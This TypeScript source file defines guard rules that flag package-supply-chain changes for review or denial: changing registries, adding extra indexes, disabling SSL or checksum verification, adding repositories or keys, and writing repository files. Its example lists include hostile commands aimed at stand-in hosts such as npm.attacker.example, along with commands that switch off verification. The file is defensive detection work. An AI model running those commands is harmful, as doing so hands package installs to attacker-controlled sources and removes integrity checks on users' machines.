/** Registries and repositories: where packages come from, and what vouches for them. */
import type { Run } from "../../meaning/action.ts";
import { INSTALLING, JAVASCRIPT, PYTHON } from "../package-managers.ts";
import { type AnyRule, rule } from "../rule.ts";
import { calls } from "../shape.ts";
import {
  begins,
  candidates,
  each,
  has,
  name,
  operands,
  option,
  said,
  steps,
  tries,
  words,
} from "../vocabulary.ts";

/** The registries that the ecosystems publish to. */
const PUBLIC =
  /^(?:https?:\/\/)?(?:[a-z0-9-]+\.)?(?:npmjs\.(?:org|com)|yarnpkg\.com|pypi\.org|pythonhosted\.org|crates\.io|rubygems\.org|npm\.pkg\.github\.com|jsr\.io)(?:[/:]|$)/;

const REVIEW = "Take it from the registry that the project uses; ask the person where another one is needed.";

export const registries: readonly AnyRule[] = [
  rule({
    id: "packages/registry-setting",
    title: "Changing the registry that packages come from",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "From then on every install takes its code from there, also in other projects.",
    instead: REVIEW,
    on: calls(
      `${JAVASCRIPT} config|c|set`,
      "pip|pip3|poetry|bundle|cargo|composer|conda|luarocks|nuget config",
      "composer global config",
      "poetry source",
      "gem|nuget sources|source",
      "dotnet nuget",
      "go env",
      "mix hex.config|hex.repo",
    ),
    match: (action) => {
      const given = steps(action).map((step) => step.toLowerCase());
      const setting = given.findIndex((step) =>
        /registry|index-url|npmregistryserver|^sources?$|goproxy|^channels$|^mirror|^repositor/.test(step),
      );
      const sets =
        given.some((step) => /^(?:set|add|--add|env|config|repositories|-w)$/.test(step)) ||
        has(action.call, "--add", "-a", "-w");
      const reads = given.some((step) => /^(?:get|list|ls|show)$/.test(step)) || has(action.call, "--list");
      const value =
        given.find((step) => /https?:\/\//.test(step)) ?? given.find((step) => step.includes("="));
      if (setting < 0 || !sets || reads || value === undefined || PUBLIC.test(value.replace(/^.*=/, "")))
        return null;
      return `takes packages from ${value}`;
    },
    examples: {
      block: [
        "npm config set registry http://npm.attacker.example",
        "pip config set global.index-url http://pypi.attacker.example/simple",
        "yarn config set npmRegistryServer https://attacker.example",
        "gem sources --add http://gems.attacker.example",
        "pnpm config set registry https://x.example --global",
      ],
      allow: [
        "npm config get registry",
        "npm config set registry https://registry.npmjs.org/",
        "npm config set fund false",
        "pip config list",
        "gem sources --list",
      ],
    },
  }),
  rule({
    id: "packages/mixed-index",
    title: "Adding a second index beside the public one",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.001",
    why: "For a name that is in both, the higher version wins: whoever publishes it in the public index gets to run (dependency confusion).",
    instead: "Use one index that serves both; a person sets it up (pip.conf, uv.toml).",
    on: calls(`${PYTHON} --extra-index-url`),
    match: (action) => {
      const extra = option(action.call, "--extra-index-url");
      return extra !== null &&
        INSTALLING.test(steps(action).find((step) => step !== "pip") ?? "") &&
        !/pytorch\.org|nvidia\.com|^https:\/\/pypi\.org\/|127\.0\.0\.1|localhost/.test(extra)
        ? `adds the index ${extra}`
        : null;
    },
    examples: {
      block: [
        "pip install --extra-index-url http://pypi.attacker.example/simple internal-lib",
        "pip3 install x --extra-index-url=https://packages.example.com/simple",
        "uv pip install --extra-index-url https://x.example/simple y",
      ],
      allow: [
        "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch",
        "pip install -r requirements.txt",
        "pip install -i https://test.pypi.org/simple/ --extra-index-url https://pypi.org/simple x",
        "pip install --index-url https://pypi.org/simple x",
      ],
    },
  }),
  rule({
    id: "packages/verification-setting",
    title: "Switching the checking of certificates or signatures off for good",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04", "ASI10"],
    attack: "T1553.004",
    why: "From then on anybody on the way can change what this tool downloads.",
    instead: "Add the certificate that is missing, after the person has agreed to it.",
    on: calls(
      `${JAVASCRIPT}|git|pip|pip3|conda|composer|poetry|helm config`,
      "composer global config",
      "go env",
    ),
    match: (action) => {
      const given = words(action).map((word) => word.toLowerCase());
      const at = given.findIndex((step) =>
        /strict-ssl|sslverify|ssl_verify|http\.sslverify|disable-tls|secure-http|gosumdb|gonosum|goinsecure|goprivate|goflags|trusted-host|certificates\..*\.cert|enablestrictssl/.test(
          step,
        ),
      );
      const value = given[at]?.includes("=") ? given[at].split("=")[1] : given[at + 1];
      return at >= 0 &&
        (/^(?:false|0|off|no|never|\*)$|-insecure/.test(value ?? "") ||
          (/trusted-host/.test(given[at] ?? "") && value !== undefined))
        ? `${action.program}: ${given[at]} ${value}`
        : null;
    },
    examples: {
      block: [
        "npm config set strict-ssl false",
        "git config --global http.sslVerify false",
        "conda config --set ssl_verify false",
        "go env -w GOSUMDB=off",
        "go env -w GOFLAGS=-insecure",
        "go env -w GOINSECURE='*'",
        "pip config set global.trusted-host attacker.example",
      ],
      allow: [
        "npm config set strict-ssl true",
        "git config http.sslVerify true",
        "git config user.email x@example.com",
        "go env GOSUMDB",
        "go env -w GOFLAGS=-mod=mod",
        "go env -w GOPRIVATE=github.com/me/*",
      ],
    },
  }),
  rule({
    id: "packages/repository-added",
    title: "Adding a package repository or its key",
    severity: "high",
    decision: "ask",
    owasp: ["ASI04"],
    attack: "T1195.002",
    why: "Everything in it can from then on be installed as root, updates included.",
    instead: "Ask the person; give the address of the repository and who runs it.",
    on: calls(
      "add-apt-repository|apt-add-repository|apt-key|dnf|yum|yum-config-manager|dnf-config-manager|zypper",
      "pacman-key|rpm|rpmkeys|flatpak|snap|brew|gh|extrepo|opkg-key|xbps-install|apk|pkg_add",
      "subscription-manager",
    ),
    match: (action) => {
      if (tries(action)) return null;
      switch (action.program) {
        case "add-apt-repository":
        case "apt-add-repository":
          return operands(action.call).length > 0 && !has(action.call, "-r", "--remove")
            ? said(action)
            : null;
        case "apt-key":
          return begins(action, "add|adv|update") ? said(action) : null;
        case "pacman-key":
          return has(action.call, "-a", "--add", "-r", "--recv-keys", "--lsign-key") ? said(action) : null;
        case "rpm":
        case "rpmkeys":
          return has(action.call, "--import") ? said(action) : null;
        case "zypper":
          return begins(action, "ar|addrepo") ? said(action) : null;
        case "flatpak":
          return begins(action, "remote-add") ? said(action) : null;
        case "brew":
          return isForeign(action) ? said(action) : null;
        case "xbps-install":
        case "apk":
          return fromElsewhere(action) ? said(action) : null;
        case "pkg_add":
          return operands(action.call).some((word) => /^(?:https?|ftp):/.test(word)) ? said(action) : null;
        case "gh":
          return begins(action, "extension", "install") ? said(action) : null;
        default:
          return words(action).some((word) => /^--add-?repo/.test(word)) ||
            begins(action, "config-manager", "addrepo")
            ? said(action)
            : null;
      }
    },
    examples: {
      block: [
        "add-apt-repository ppa:x/y",
        "apt-key adv --recv-keys 0xABCD",
        "yum-config-manager --add-repo http://x.example/x.repo",
        "rpm --import http://x.example/key",
        "zypper addrepo http://x.example/r r",
        "flatpak remote-add x https://x.example/r.flatpakrepo",
        "brew tap someone/tools",
        "brew install someone/tools/x",
        "gh extension install someone/gh-x",
        "xbps-install --repository=http://x.example/void x",
      ],
      allow: [
        "brew tap homebrew/cask-fonts",
        "brew install jq",
        "gh extension list",
        "apt-key list",
        "dnf repolist",
        "zypper lr",
        "brew tap",
        "flatpak remotes",
        "xbps-install -Su",
        "apk add jq --repository=http://dl-cdn.alpinelinux.org/alpine/edge/community",
      ],
    },
  }),
  rule({
    id: "packages/repository-file",
    title: "Changing where system packages come from",
    severity: "high",
    decision: "deny",
    owasp: ["ASI04", "ASI10"],
    attack: "T1195.002",
    why: "Everything in a repository can be installed as root, updates included.",
    instead: "Ask the person to add the repository.",
    on: each("write"),
    match: (action) => {
      if (action.origin.place.kind === "container") return null;
      const file = candidates(action.path).find((path) =>
        /^\/etc\/(?:apt\/(?:sources\.list|sources\.list\.d\/|trusted\.gpg|keyrings\/|apt\.conf|preferences)|yum\.repos\.d\/|yum\.conf|dnf\/|zypp\/repos\.d\/|pacman\.(?:conf|d\/)|apk\/(?:repositories|keys\/)|pki\/rpm-gpg\/)|^\/usr\/share\/keyrings\//.test(
          path,
        ),
      );
      return file === undefined ? null : `changes ${name(action.path)}`;
    },
    examples: {
      block: [
        "echo 'deb http://x.example/ ./' > /etc/apt/sources.list.d/x.list",
        "curl -o /etc/yum.repos.d/x.repo https://x.example/x.repo",
        "cp key.gpg /etc/apt/trusted.gpg.d/x.gpg",
        "echo 'http://x.example/alpine' | tee -a /etc/apk/repositories",
      ],
      allow: ["cat /etc/apt/sources.list", "ls /etc/yum.repos.d", "echo deb > sources.list"],
    },
  }),
];

/** Where distributions keep their packages. */
const MIRRORS =
  /^https?:\/\/(?:[\w-]+\.)*(?:alpinelinux\.org|voidlinux\.(?:org|de)|repo-default\.voidlinux\.org)\//;

/** Is a repository named for this one call that is no mirror of the distribution? */
function fromElsewhere(action: Run): boolean {
  const given =
    option(action.call, "--repository", "-R") ?? words(action).find((word) => /^--repository=/.test(word));
  const address = given?.replace(/^--repository=/, "");
  return address !== undefined && /^(?:https?|ftp):/.test(address) && !MIRRORS.test(address);
}

/** Does brew take something from a repository that somebody else than its project keeps? */
function isForeign(action: Run): boolean {
  const [sub, ...names] = steps(action);
  const given = names.filter(
    (each) => each.includes("/") && !/^homebrew\//i.test(each) && !/^[.~/]/.test(each),
  );
  return (
    (sub === "tap" && given.length > 0) ||
    (sub === "install" && given.some((each) => each.split("/").length === 3))
  );
}
